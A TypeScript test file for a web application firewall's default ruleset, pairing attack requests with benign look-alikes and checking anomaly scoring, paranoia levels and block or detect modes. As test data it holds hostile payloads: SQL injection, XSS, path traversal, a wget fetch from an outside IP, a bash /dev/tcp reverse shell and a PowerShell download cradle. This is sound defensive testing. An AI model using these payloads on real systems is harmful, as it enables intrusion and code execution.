// The embedded default ruleset (rules/main.conf): every detection rule fires on an attack and the
// anomaly evaluation (1149100) then denies it in block mode, each has a benign look-alike that must
// pass untouched, paranoia levels gate the PL2 rules, and the engine modes decide deny vs detect.
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { Waf } from '../src/engine/waf.js';
import type { EngineMode, HttpRequest, Verdict } from '../src/engine/api.js';
import { getBodyProcessor } from '../src/bodyprocessors/index.js';
import { REPO_ROOT } from '../bench/lib/shared.js';

const RULES_DIR = join(REPO_ROOT, 'rules');
const MAIN = join(RULES_DIR, 'main.conf');
const BLOCKING_RULE = 1149100;
const RANGE: [number, number] = [1100000, 1199999];

// ---------------------------------------------------------------------------------------------
// Loading

function load(mode?: EngineMode, settings: string[] = []): Waf {
  if (settings.length === 0) return Waf.fromFile(MAIN, mode === undefined ? {} : { mode });
  // Settings placed before the Include, as an operator would (a virtual file next to main.conf).
  const text = settings.map((s, i) => `SecAction "id:${1000 + i},phase:1,pass,nolog,${s}"`).join('\n') + '\nInclude main.conf\n';
  return Waf.fromString(text, join(RULES_DIR, 'local-settings.conf'), mode === undefined ? {} : { mode });
}

const wafs = new Map<string, Waf>();
function waf(pl: number, mode: EngineMode = 'block'): Waf {
  const key = `${pl}/${mode}`;
  let w = wafs.get(key);
  if (w === undefined) {
    w = pl === 1 ? load(mode) : load(mode, [`setvar:tx.paranoia_level=${pl}`]);
    wafs.set(key, w);
  }
  return w;
}

// ---------------------------------------------------------------------------------------------
// Requests

interface Req {
  method?: string;
  uri?: string;
  /** Added after the defaults (Host, User-Agent, Accept) unless noDefaultHeaders. */
  headers?: Array<[string, string]>;
  noDefaultHeaders?: boolean;
  contentType?: string;
  /** Strings are sent as UTF-8; a Content-Length is added unless one (or Transfer-Encoding) is given. */
  body?: string | Buffer;
}

function request(r: Req = {}): HttpRequest {
  const headers: Array<[string, string]> = r.noDefaultHeaders
    ? []
    : [
        ['Host', 'orders.shop.svc.cluster.local'],
        ['User-Agent', 'inventory-service/1.4 grpc-gateway'],
        ['Accept', 'application/json'],
      ];
  const body = r.body === undefined ? null : typeof r.body === 'string' ? Buffer.from(r.body, 'utf8') : r.body;
  if (r.contentType !== undefined) headers.push(['Content-Type', r.contentType]);
  const extra = r.headers ?? [];
  const framed = extra.some(([n]) => /^(content-length|transfer-encoding)$/i.test(n));
  if (body !== null && !framed) headers.push(['Content-Length', String(body.length)]);
  headers.push(...extra);
  return {
    id: 'test-request',
    method: r.method ?? (body === null ? 'GET' : 'POST'),
    uri: r.uri ?? '/',
    protocol: 'HTTP/1.1',
    headers,
    body,
    bodyPartial: false,
    clientIp: '10.1.2.3',
    clientPort: 41234,
    serverIp: '10.1.9.9',
    serverPort: 8080,
  };
}

const get = (uri: string, headers: Array<[string, string]> = []): Req => ({ uri, headers });
const json = (uri: string, body: unknown): Req => ({
  method: 'POST',
  uri,
  contentType: 'application/json',
  body: typeof body === 'string' ? body : JSON.stringify(body),
});
const form = (uri: string, body: string): Req => ({ method: 'POST', uri, contentType: 'application/x-www-form-urlencoded', body });

function multipart(boundary: string, parts: string, preamble = ''): Req {
  return {
    method: 'POST',
    uri: '/api/uploads',
    contentType: `multipart/form-data; boundary=${boundary}`,
    body: Buffer.from(preamble + parts, 'latin1'),
  };
}

function show(v: Verdict): string {
  return `action=${v.action} status=${v.status} score=${v.anomalyScore} rules=[${v.ruleIds.join(', ')}] ` +
    v.matches.map((m) => `\n    ${m.id} ${m.msg} | ${m.logdata}`).join('');
}

// ---------------------------------------------------------------------------------------------
// One entry per detection rule: attacks that must trigger it, look-alikes that must not.

interface Case {
  id: number;
  pl: 1 | 2;
  what: string;
  attacks: Array<[string, Req]>;
  benign: Array<[string, Req]>;
  /** The body processor the attacks need, skipped (with a reason) while the engine lacks it. */
  needs?: string;
}

const thousandArgs = Array.from({ length: 1000 }, (_, i) => `f${i}=${i}`).join('&');
const nineHundredNinetyNineArgs = Array.from({ length: 999 }, (_, i) => `f${i}=${i}`).join('&');

const nestedJson = {
  order: { id: 'A-1009', customer: { name: "Siobhan O'Brien", email: 'siobhan.obrien@example.com' } },
  items: [
    { sku: 'PLAN-PRO', note: 'select a plan that fits', qty: 1 },
    { sku: 'ADDON-SUPPORT', options: { region: 'eu-west-1', hosts: ['db1', 'db2'], env: 'production' } },
  ],
  comment: 'Wait... is this the final version? Tom & Jerry said yes; more later.',
};

const CASES: Case[] = [
  // -- protocol enforcement ---------------------------------------------------------------------
  {
    id: 1120100,
    pl: 1,
    what: 'method not allowed',
    attacks: [
      ['TRACE', { method: 'TRACE', uri: '/' }],
      ['PROPFIND', { method: 'PROPFIND', uri: '/api/files/' }],
    ],
    benign: [
      ['PATCH with JSON', { ...json('/api/orders/42', { status: 'shipped' }), method: 'PATCH' }],
      ['DELETE', { method: 'DELETE', uri: '/api/orders/42' }],
      ['OPTIONS', { method: 'OPTIONS', uri: '/api/orders' }],
    ],
  },
  {
    id: 1120110,
    pl: 1,
    what: 'missing Host',
    attacks: [['no Host header', { noDefaultHeaders: true, uri: '/api/health', headers: [['User-Agent', 'curl/8.5.0'], ['Accept', '*/*']] }]],
    benign: [['Host with port', { noDefaultHeaders: true, uri: '/api/health', headers: [['Host', 'orders.shop.svc:8080'], ['Accept', '*/*']] }]],
  },
  {
    id: 1120120,
    pl: 1,
    what: 'empty Host',
    attacks: [['Host: ""', { noDefaultHeaders: true, uri: '/api/health', headers: [['Host', ''], ['Accept', '*/*']] }]],
    benign: [['Host: localhost', { noDefaultHeaders: true, uri: '/api/health', headers: [['Host', 'localhost'], ['Accept', '*/*']] }]],
  },
  {
    id: 1120130,
    pl: 1,
    what: 'invalid Content-Length',
    attacks: [
      ['Content-Length: 3abc', { ...form('/api/login', 'a=1'), headers: [['Content-Length', '3abc']] }],
      ['Content-Length: -1', { ...form('/api/login', 'a=1'), headers: [['Content-Length', '-1']] }],
    ],
    benign: [['Content-Length: 0 on an empty POST', { method: 'POST', uri: '/api/jobs/7/run', headers: [['Content-Length', '0']] }]],
  },
  {
    id: 1120140,
    pl: 1,
    what: 'Content-Length with Transfer-Encoding',
    attacks: [
      [
        'CL.TE',
        { ...form('/api/login', 'a=1'), headers: [['Content-Length', '3'], ['Transfer-Encoding', 'chunked']] },
      ],
    ],
    benign: [['chunked only', { ...json('/api/events', { type: 'ping' }), headers: [['Transfer-Encoding', 'chunked']] }]],
  },
  {
    id: 1120150,
    pl: 1,
    what: 'invalid URL encoding in the request target',
    attacks: [
      ['%zz', get('/api/search?q=%zz')],
      ['bare % before +', get('/api/search?q=50%+off')],
    ],
    benign: [['valid %25 and %20', get('/api/search?q=100%25%20cotton')]],
  },
  {
    id: 1120160,
    pl: 1,
    what: 'NUL byte',
    attacks: [
      ['%00 in query', get('/api/files?name=report.pdf%00.txt')],
      ['NUL in JSON string', json('/api/files', '{"file":{"name":"a.txt\\u0000.sh"}}')],
    ],
    benign: [['encoded space', get('/api/files?name=report%20final.pdf')]],
  },
  {
    id: 1120170,
    pl: 1,
    what: 'invalid URL encoding in urlencoded body',
    attacks: [['%+d in form body', form('/api/promotions', 'name=50%+discount&active=1')]],
    benign: [['valid form body', form('/api/promotions', 'name=50%25+discount&plan=select+a+plan&owner=O%27Brien')]],
  },
  {
    id: 1120180,
    pl: 1,
    what: 'request body parse error',
    attacks: [
      ['truncated JSON', json('/api/orders', '{"order": {"id": "A-1", "items": [1, 2')],
      ['JSON with trailing garbage', json('/api/orders', '{"a":1} xyz')],
    ],
    benign: [['nested JSON', json('/api/orders', nestedJson)]],
  },
  {
    id: 1120190,
    pl: 1,
    what: 'multipart strict error',
    needs: 'MULTIPART',
    attacks: [
      [
        'data before the first boundary',
        multipart(
          'XyZ123',
          '--XyZ123\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--XyZ123--\r\n',
          'junk before the first boundary\r\n',
        ),
      ],
    ],
    benign: [
      [
        'well-formed multipart',
        multipart(
          'XyZ123',
          '--XyZ123\r\nContent-Disposition: form-data; name="title"\r\n\r\nQ3 report\r\n' +
            '--XyZ123\r\nContent-Disposition: form-data; name="file"; filename="q3.csv"\r\nContent-Type: text/csv\r\n\r\nregion,total\r\neu,10\r\n' +
            '--XyZ123--\r\n',
        ),
      ],
    ],
  },
  {
    id: 1120200,
    pl: 1,
    what: 'arguments limit reached',
    attacks: [['1000 query arguments', get('/api/bulk?' + thousandArgs)]],
    benign: [['999 query arguments', get('/api/bulk?' + nineHundredNinetyNineArgs)]],
  },
  {
    id: 1120300,
    pl: 2,
    what: 'invalid UTF-8',
    attacks: [
      ['truncated sequence', get('/api/search?q=%C3%28')],
      ['overlong slash', get('/api/search?q=a%C0%AFb')],
    ],
    benign: [['café', get('/api/search?q=caf%C3%A9%20cr%C3%A8me')]],
  },

  // -- path traversal ----------------------------------------------------------------------------
  {
    id: 1130100,
    pl: 1,
    what: 'path traversal',
    attacks: [
      ['../ in query', get('/api/files?path=../../app/config.yml')],
      ['..\\ in JSON', json('/api/templates', { template: { path: '..\\..\\conf\\app.yaml' } })],
      ['double-encoded', get('/api/files?path=%252e%252e%252fapp.yaml')],
      ['Tomcat ..;/', get('/api/..;/manager/html')],
      ['....// filter bypass', get('/api/files?path=....//....//app/config.yml')],
    ],
    benign: [
      ['a..b.txt', get('/api/files?name=a..b.txt')],
      ['range 1..10', get('/api/diff/v1..v2?lines=1..10')],
      ['ellipsis in JSON', json('/api/notes', { note: { text: 'Wait... what? See ./docs for more.' } })],
    ],
  },
  {
    id: 1130110,
    pl: 1,
    what: 'encoded path traversal',
    attacks: [
      ['overlong UTF-8 dots', get('/static/%c0%ae%c0%ae/%c0%ae%c0%ae/secret.txt')],
      ['double-encoded dots', get('/api/files?f=%252e%252e%252fapp.yaml')],
      ['IIS %u dots', get('/static/%u002e%u002e/web.txt')],
    ],
    benign: [
      ['single %2e in a file name', get('/api/files?name=report%2ev2.pdf')],
      ['encoded percent', get('/api/search?q=50%25%20off')],
    ],
  },
  {
    id: 1130120,
    pl: 1,
    what: 'sensitive OS file',
    attacks: [
      ['/etc/passwd', get('/api/render?template=/etc/passwd')],
      ['service account token in JSON', json('/api/import', { source: { url: 'file:///var/run/secrets/kubernetes.io/serviceaccount/token' } })],
      ['Windows win.ini', get('/api/files?f=C:%5CWindows%5Cwin.ini')],
      ['obfuscated path', get('/api/files?f=/etc//./shadow')],
      ['.git/config in path', get('/static/.git/config')],
    ],
    benign: [
      ['password reset topic', get('/api/help?topic=password-reset&section=etc')],
      ['nested JSON with hosts/env keys', json('/api/orders', nestedJson)],
    ],
  },
  {
    id: 1130200,
    pl: 2,
    what: 'backup/config/key file',
    attacks: [
      ['.sql dump', get('/backup/db.sql')],
      ['.env file', get('/app/.env')],
      ['.git directory', get('/.git/HEAD')],
    ],
    benign: [
      ['JSON report', get('/api/reports/2024.json')],
      ['keys collection', get('/api/keys/current')],
    ],
  },

  // -- command injection -------------------------------------------------------------------------
  {
    id: 1132100,
    pl: 1,
    what: 'Unix command chaining',
    attacks: [
      ['; cat', get('/api/ping?host=127.0.0.1;cat%20/tmp/x')],
      ['| id', get('/api/ping?host=8.8.8.8|id')],
      ['&& whoami', get('/api/convert?file=a.txt%20%26%26%20whoami')],
      ['newline sleep', get('/api/ping?host=1.1.1.1%0asleep%205')],
      ['/bin/ls in JSON', json('/api/jobs', { job: { args: 'x; /bin/ls -la' } })],
      ['|| wget', get('/api/fetch?u=x%20||%20wget%20http://203.0.113.9/x.sh')],
    ],
    benign: [
      ['connection string', get('/api/db?conn=Server%3Ddb%3BDatabase%3Dorders%3BUser%20Id%3Dsvc%3Bhostname%3Ddb1')],
      ['prose with ; and &', get('/api/notes?text=Tom%20%26%20Jerry%3B%20more%20episodes%20soon&msg=at%205%3B%20less%20is%20more')],
      ['sort by id', get('/api/orders?sort=id&order=desc')],
    ],
  },
  {
    id: 1132110,
    pl: 1,
    what: 'Unix command substitution',
    attacks: [
      ['$(whoami)', get('/api/users?name=$(whoami)')],
      ['backticks', get('/api/users?name=%60id%60')],
      ['${IFS}', get('/api/files?name=a${IFS}b')],
      ['/dev/tcp reverse shell', json('/api/hooks', { hook: { cmd: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' } })],
    ],
    benign: [
      ['jQuery snippet', json('/api/snippets', { snippet: { code: '$(document).ready(init)' } })],
      ['template placeholder', get('/api/templates?body=Hello%20${name}%2C%20total%20$(5)')],
    ],
  },
  {
    id: 1132120,
    pl: 1,
    what: 'Windows command injection',
    attacks: [
      ['& cmd /c', get('/api/ping?host=127.0.0.1%20%26%20cmd%20/c%20dir')],
      ['| powershell', get('/api/ping?host=127.0.0.1|powershell%20-nop%20-c%20hostname')],
      ['; net user', get('/api/ping?host=x;net%20user%20admin%20P4ss%20/add')],
    ],
    benign: [
      ['Windows path', get('/api/files?path=C:%5CUsers%5Csvc%5Creport.txt')],
      ['net user guide', get('/api/help?q=the%20net%20user%20guide%20and%20cmd%20tips')],
    ],
  },
  {
    id: 1132130,
    pl: 1,
    what: 'PowerShell',
    attacks: [
      ['IEX download cradle', json('/api/tasks', { task: { script: "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')" } })],
      ['encoded command', get('/api/run?p=powershell%20-EncodedCommand%20SQBFAFgAIAAoAE4AZQB3AC0A')],
    ],
    benign: [
      ['invoke/download words', get('/api/help?q=Invoke%20the%20webhook%20then%20download%20file%20(report)')],
    ],
  },
  {
    id: 1132140,
    pl: 1,
    what: 'Shellshock',
    attacks: [
      ['request header', get('/cgi-bin/status', [['X-Debug', '() { :; }; /bin/bash -c "id"']])],
      ['argument', get('/api/env?x=()%20%7B%20ignored;%20%7D;%20echo')],
    ],
    benign: [['function-looking text', get('/api/snippets?code=f()%20%7B%20return%201%20%7D')]],
  },
  {
    id: 1132200,
    pl: 2,
    what: 'Unix command with shell evasion',
    attacks: [
      ["c'a't with a path", get("/api/view?f=c'a't%20/tmp/data")],
      ['w\\hoami', get('/api/users?name=w%5Choami')],
    ],
    benign: [
      ['sort by id', get('/api/orders?sort=id')],
      ['cat food', get('/api/search?q=cat%20food&agent=curl')],
      ['find my order', get('/api/search?q=find%20my%20order%20-%20urgent')],
    ],
  },

  // -- XSS ---------------------------------------------------------------------------------------
  {
    id: 1141100,
    pl: 1,
    what: 'XSS (libinjection)',
    attacks: [
      ['img onerror', get('/api/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E')],
      ['iframe in nested JSON', json('/api/profile', { profile: { bio: '<iframe src=javascript:alert(1)>' } })],
    ],
    benign: [
      ['less/greater than', get('/api/search?q=price%20%3C%20100%20EUR&expr=x%20%3C%20y%20%3E%20z')],
      ['email', get('/api/users?email=jane.doe%40example.com')],
    ],
  },
  {
    id: 1141110,
    pl: 1,
    what: 'script tag',
    attacks: [
      ['<script>', get('/api/search?q=%3Cscript%3Ealert(1)%3C/script%3E')],
      ['HTML entities', get('/api/search?q=%26lt%3Bscript%26gt%3Balert(1)')],
      ['JSON \\u escapes', json('/api/comments', '{"comment":{"text":"\\u003cscript src=//evil.example\\u003e"}}')],
    ],
    benign: [['script as a word', get('/api/jobs?q=the%20deploy%20script%20ran%20and%20the%20manuscript%20too')]],
  },
  {
    id: 1141120,
    pl: 1,
    what: 'event handler',
    attacks: [
      ['attribute break-out', get('/api/users?name=x%22%20onmouseover%3D%22alert(1)')],
      ['body onload', get('/api/pages?html=%3Cbody%20onload%3Dalert(1)%3E')],
    ],
    benign: [
      ['onboarding / online', get('/api/users?onboarding=done&status=online')],
      ['onion rings', get('/api/menu?q=onion%20rings%3D5')],
    ],
  },
  {
    id: 1141130,
    pl: 1,
    what: 'javascript:/data: URI',
    attacks: [
      ['javascript:', get('/login?next=javascript:alert(document.cookie)')],
      ['tab inside the scheme', get('/login?next=java%09script:alert(1)')],
      ['data:text/html', get('/api/links?u=data:text/html;base64,PHNjcmlwdD4%3D')],
    ],
    benign: [
      ['book title', get('/api/books?title=JavaScript%3A%20The%20Good%20Parts')],
      ['image data URI', json('/api/avatars', { avatar: { src: 'data:image/png;base64,iVBORw0KGgo=' } })],
    ],
  },
  {
    id: 1141200,
    pl: 2,
    what: 'active-content HTML tag',
    attacks: [
      ['svg', get('/api/pages?html=%3Csvg%3E%3Cg/%3E%3C/svg%3E')],
      ['meta refresh', get('/api/pages?html=%3Cmeta%20http-equiv%3Drefresh%20content%3D0%3Burl%3D//evil.example%3E')],
    ],
    benign: [['simple formatting', get('/api/pages?html=%3Cb%3Ebold%3C/b%3E%20and%20%3Ci%3Eitalic%3C/i%3E')]],
  },

  // -- SQL injection -----------------------------------------------------------------------------
  {
    id: 1142100,
    pl: 1,
    what: 'SQLi (libinjection)',
    attacks: [
      ["' or '1'='1", get("/api/users?id=1'%20or%20'1'%3D'1")],
      ['cookie', get('/api/me', [['Cookie', "session=abc123; uid=1' or 1=1-- "]])],
    ],
    benign: [
      ["O'Brien", get("/api/users?name=O'Brien")],
      ['select a plan', get('/api/plans?q=select%20a%20plan')],
    ],
  },
  {
    id: 1142110,
    pl: 1,
    what: 'tautology',
    attacks: [
      ['1 OR 1=1', get('/api/users?id=1%20OR%201%3D1')],
      ["' or 'a'='a", get("/api/login?user=admin'%20or%20'a'%3D'a")],
      ['" or ""="', get('/api/login?user=x%22%20or%20%22%22%3D%22')],
      ['comment-split', get("/api/login?user=x'/**/or/**/1%3D1")],
      ['in nested JSON', json('/api/search', { filter: { owner: "' or true--" } })],
    ],
    benign: [
      ["O'Brien or Smith", get("/api/users?name=O'Brien%20or%20Smith")],
      ['choose 1 or 2', get('/api/help?q=choose%201%20or%202%20options')],
      ["quoted 'red' or blue", get("/api/help?q=the%20'red'%20or%20blue%20one")],
    ],
  },
  {
    id: 1142120,
    pl: 1,
    what: 'UNION SELECT',
    attacks: [
      ['UNION SELECT', get('/api/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users')],
      ['comment-split', get('/api/products?id=1/**/union/**/all/**/select/**/1')],
      ['union(select', get('/api/products?id=1%20union(select%201)')],
    ],
    benign: [
      ['labor union', get('/api/news?q=labor%20union%20selects%20new%20board')],
      ['union station', get('/api/stations?q=union%20station')],
    ],
  },
  {
    id: 1142130,
    pl: 1,
    what: 'quote then comment',
    attacks: [
      ["admin'--", get("/api/login?user=admin'--")],
      ["admin'#", get("/api/login?user=admin'%23")],
      ["1');--", get("/api/items?id=1')%3B--")],
    ],
    benign: [
      ['quoted prose with --', get("/api/notes?q=he%20said%20'no'%20--%20twice")],
      ["quoted hashtag", get("/api/help?q=the%20hashtag%20'%23dev'%20channel")],
      ["quoted '-- '", get("/api/help?q='--%20'%20starts%20a%20comment")],
    ],
  },
  {
    id: 1142140,
    pl: 1,
    what: 'stacked query',
    attacks: [
      ['DROP TABLE', get('/api/items?id=1;%20DROP%20TABLE%20users--')],
      ['UPDATE ... SET', get('/api/items?id=1;%20update%20accounts%20set%20balance%3D0')],
      ['DECLARE @', get('/api/items?id=1;declare%20@s%20varchar(99)')],
    ],
    benign: [
      ['create user accounts', get('/api/help?q=Step%202%3B%20create%20user%20accounts')],
      ['delete from my list', get('/api/help?q=pick%20items%3B%20delete%20from%20my%20list%20later')],
      ['select a plan', get('/api/help?q=please%20select%20a%20plan%3B%20thanks')],
    ],
  },
  {
    id: 1142150,
    pl: 1,
    what: 'time-based blind',
    attacks: [
      ['SLEEP(5)', get('/api/items?id=1%20AND%20SLEEP(5)')],
      ['WAITFOR DELAY', get("/api/items?id=1';WAITFOR%20DELAY%20'0:0:5'--")],
      ['BENCHMARK', get('/api/items?id=1%20and%20benchmark(5000000,md5(1))')],
      ['pg_sleep', json('/api/search', { q: { term: "x'||pg_sleep(10)||'" } })],
    ],
    benign: [
      ['sleep (8 hours)', get('/api/notes?q=I%20need%20sleep%20(8%20hours)')],
      ['benchmark results', get('/api/news?q=benchmark%20results%202024')],
    ],
  },
  {
    id: 1142160,
    pl: 1,
    what: 'schema probing',
    attacks: [
      ['information_schema', get('/api/items?id=1%20and%201%3D(select%20count(*)%20from%20information_schema.tables)')],
      ['@@version', get('/api/items?id=@@version')],
      ['into outfile', get("/api/items?id=1'%20into%20outfile%20'/tmp/x")],
    ],
    benign: [
      ['information schema docs', get('/api/docs?q=information%20schema%20docs&topic=system%20tables')],
      ['email address', get('/api/users?email=ops%40example.com')],
    ],
  },
  {
    id: 1142200,
    pl: 2,
    what: 'SQL statement',
    attacks: [
      ['SELECT ... FROM', get('/api/report?q=select%20name,%20email%20from%20customers')],
      ['INSERT INTO', get('/api/report?q=insert%20into%20audit%20values%20(1)')],
    ],
    benign: [
      ['select a plan', get('/api/plans?q=please%20select%20a%20plan')],
      ['update: ...', get('/api/news?q=update%3A%20shipping%20is%20delayed')],
    ],
  },
];

// ---------------------------------------------------------------------------------------------

describe('default ruleset: loading', () => {
  // Its compile time is a figure of bench:engine (a timed assertion here would only measure load).
  test('rules/main.conf loads, without warnings', () => {
    const w = Waf.fromFile(MAIN, { mode: 'block' });
    assert.ok(w.ruleCount > 50, `only ${w.ruleCount} rules loaded`);
    assert.deepEqual(w.warnings, []);
  });

  test('SecRuleEngine DetectionOnly is the default mode; --mode overrides it', () => {
    assert.equal(load().mode, 'detect');
    assert.equal(load('block').mode, 'block');
    assert.equal(load('off').mode, 'off');
  });

  test('every rule id is in the documented range', () => {
    for (const id of waf(1).ruleset.rulesById.keys()) {
      assert.ok(id >= RANGE[0] && id <= RANGE[1], `rule ${id} outside ${RANGE[0]}-${RANGE[1]}`);
    }
  });

  test('every detection rule is CRS-shaped and has a test case here', () => {
    const byId = new Map(CASES.map((c) => [c.id, c]));
    const detection = [...waf(1).ruleset.rulesById.values()].filter((r) => r.disruptive === 'block');
    assert.ok(detection.length >= 30, `only ${detection.length} detection rules`);
    for (const r of detection) {
      const c = byId.get(r.id);
      assert.ok(c !== undefined, `rule ${r.id} (${r.file}:${r.line}) has no test case`);
      assert.ok(r.msg !== null && r.logdata !== null, `rule ${r.id} lacks msg or logdata`);
      assert.equal(r.severity, 2, `rule ${r.id} severity`);
      assert.ok(r.tags.some((t) => /^attack-/.test(t)), `rule ${r.id} has no attack-* tag`);
      assert.ok(r.tags.includes(`paranoia-level/${c.pl}`), `rule ${r.id} tags ${r.tags.join(',')} vs PL${c.pl}`);
    }
    for (const c of CASES) assert.ok(waf(1).ruleset.rulesById.has(c.id), `test case for unknown rule ${c.id}`);
  });
});

describe('default ruleset: benign traffic', () => {
  test('a browser-like GET with 13 typical headers and 5 query args is allowed with no rule ids', () => {
    const req = request({
      noDefaultHeaders: true,
      uri: '/shop/search?q=red+running+shoes&size=42&sort=price_asc&page=2&ref=homepage%2Fbanner',
      headers: [
        ['Host', 'www.example.com'],
        ['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'],
        ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
        ['Accept-Language', 'en-US,en;q=0.9,de;q=0.8'],
        ['Accept-Encoding', 'gzip, deflate, br, zstd'],
        ['Referer', 'https://www.example.com/shop/?utm_source=newsletter&utm_medium=email'],
        ['Cookie', 'session=8f14e45fceea167a5a36dedd4bea2543; __utma=1.2.3.4.5.6; theme=dark; consent={"ads":false}'],
        ['Sec-Ch-Ua', '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
        ['Sec-Ch-Ua-Mobile', '?0'],
        ['Sec-Ch-Ua-Platform', '"Windows"'],
        ['Sec-Fetch-Site', 'same-origin'],
        ['Sec-Fetch-Mode', 'navigate'],
        ['Upgrade-Insecure-Requests', '1'],
      ],
    });
    assert.equal(req.headers.length, 13);
    for (const mode of ['block', 'detect'] as const) {
      const v = waf(1, mode).evaluate(req);
      assert.equal(v.action, 'allow', show(v));
      assert.deepEqual(v.ruleIds, [], show(v));
      assert.equal(v.anomalyScore, 0);
    }
  });

  test('a JSON API call with nested objects is allowed at PL1 and PL2', () => {
    for (const pl of [1, 2]) {
      const v = waf(pl).evaluate(request(json('/api/v2/orders', nestedJson)));
      assert.equal(v.action, 'allow', show(v));
      assert.deepEqual(v.ruleIds, [], show(v));
      assert.equal(v.requestBodyError, null);
    }
  });
});

for (const c of CASES) {
  const missing = c.needs !== undefined && getBodyProcessor(c.needs) === undefined;
  const skip = missing ? `the engine has no ${c.needs} body processor yet` : false;
  describe(`rule ${c.id} (PL${c.pl}): ${c.what}`, () => {
    for (const [label, spec] of c.attacks) {
      test(`detects: ${label}`, { skip }, () => {
        const v = waf(c.pl).evaluate(request(spec));
        assert.ok(v.ruleIds.includes(c.id), `expected rule ${c.id}; ${show(v)}`);
        assert.equal(v.action, 'deny', show(v));
        assert.equal(v.status, 403, show(v));
        assert.equal(v.interruptingRuleId, BLOCKING_RULE, show(v));
        assert.ok(v.anomalyScore >= 5, show(v));
        if (c.pl > 1) {
          const low = waf(1).evaluate(request(spec));
          assert.ok(!low.ruleIds.includes(c.id), `PL${c.pl} rule ${c.id} ran at PL1; ${show(low)}`);
        }
      });
    }
    for (const [label, spec] of c.benign) {
      test(`ignores look-alike: ${label}`, { skip }, () => {
        const v = waf(c.pl).evaluate(request(spec));
        assert.ok(!v.ruleIds.includes(c.id), `rule ${c.id} fired; ${show(v)}`);
        assert.equal(v.action, 'allow', show(v));
        assert.deepEqual(v.ruleIds, [], show(v));
      });
    }
  });
}

describe('default ruleset: anomaly scoring and modes', () => {
  const attack = get("/api/users?id=1'%20or%20'1'%3D'1");

  test('detect mode reports the attack instead of denying it', () => {
    for (const w of [waf(1, 'detect'), load()]) {
      const v = w.evaluate(request(attack));
      assert.equal(v.action, 'detect', show(v));
      assert.equal(v.interruptingRuleId, BLOCKING_RULE);
      assert.ok(v.ruleIds.includes(1142100) && v.ruleIds.includes(BLOCKING_RULE), show(v));
      assert.ok(v.anomalyScore >= 5);
    }
  });

  test('off mode evaluates nothing', () => {
    const v = waf(1, 'off').evaluate(request(attack));
    assert.equal(v.action, 'allow');
    assert.deepEqual(v.ruleIds, []);
  });

  test('scores add up per match and the blocking rule reports the total', () => {
    const v = waf(1).evaluate(request(get('/api/files?a=../../x&b=$(id)')));
    assert.equal(v.action, 'deny');
    assert.ok(v.anomalyScore >= 10, show(v));
    const block = v.matches.find((m) => m.id === BLOCKING_RULE)!;
    assert.match(block.msg, new RegExp(`total score: ${v.anomalyScore}, threshold: 5`));
  });

  test('logdata names the matched data and variable', () => {
    const v = waf(1).evaluate(request(get('/api/products?id=1%20UNION%20SELECT%20password%20FROM%20users')));
    const m = v.matches.find((x) => x.id === 1142120);
    assert.ok(m !== undefined, show(v));
    assert.equal(m.logdata, 'Matched Data: UNION SELECT found within ARGS:id: 1 UNION SELECT password FROM users');
    assert.ok(m.tags.includes('attack-sqli') && m.tags.includes('paranoia-level/1'));
  });

  test('raising the threshold turns a single critical hit into a logged, allowed request', () => {
    const w = load('block', ['setvar:tx.inbound_anomaly_score_threshold=10']);
    const v = w.evaluate(request({ method: 'TRACE', uri: '/' }));
    assert.equal(v.action, 'allow', show(v));
    assert.deepEqual(v.ruleIds, [1120100], show(v));
    assert.equal(v.anomalyScore, 5);
    assert.ok(!v.ruleIds.includes(BLOCKING_RULE));
  });

  test('raising the paranoia level enables PL2 rules', () => {
    const spec = get('/api/report?q=select%20name,%20email%20from%20customers');
    const pl1 = waf(1).evaluate(request(spec));
    assert.equal(pl1.action, 'allow', show(pl1));
    assert.deepEqual(pl1.ruleIds, []);
    const pl2 = waf(2).evaluate(request(spec));
    assert.ok(pl2.ruleIds.includes(1142200), show(pl2));
    assert.equal(pl2.action, 'deny');
    // PL2 scores count towards blocking only from PL2 on; PL1 rules still run at PL2.
    const both = waf(2).evaluate(request(get('/api/files?path=../../app.yaml')));
    assert.ok(both.ruleIds.includes(1130100), show(both));
  });

  test('request bodies are inspected: urlencoded form and JSON', () => {
    const f = waf(1).evaluate(request(form('/api/login', "user=admin'--&password=x")));
    assert.ok(f.ruleIds.includes(1142130), show(f));
    assert.equal(f.action, 'deny');
    const j = waf(1).evaluate(request(json('/api/login', { credentials: { user: "admin'--", password: 'x' } })));
    assert.ok(j.ruleIds.includes(1142130), show(j));
    assert.equal(j.action, 'deny');
  });

  test(
    'XML bodies are inspected through XML:/*',
    { skip: getBodyProcessor('XML') === undefined ? 'the engine has no XML body processor yet' : false },
    () => {
      const spec: Req = {
        method: 'POST',
        uri: '/soap/orders',
        contentType: 'text/xml; charset=utf-8',
        body: "<?xml version=\"1.0\"?><order><id>1' UNION SELECT password FROM users--</id><note>select a plan</note></order>",
      };
      const v = waf(1).evaluate(request(spec));
      assert.ok(v.ruleIds.includes(1142120), show(v));
      assert.equal(v.action, 'deny');
      const ok = waf(1).evaluate(request({ ...spec, body: "<?xml version=\"1.0\"?><order><id>A-1</id><customer>O'Brien</customer></order>" }));
      assert.equal(ok.action, 'allow', show(ok));
    },
  );
});
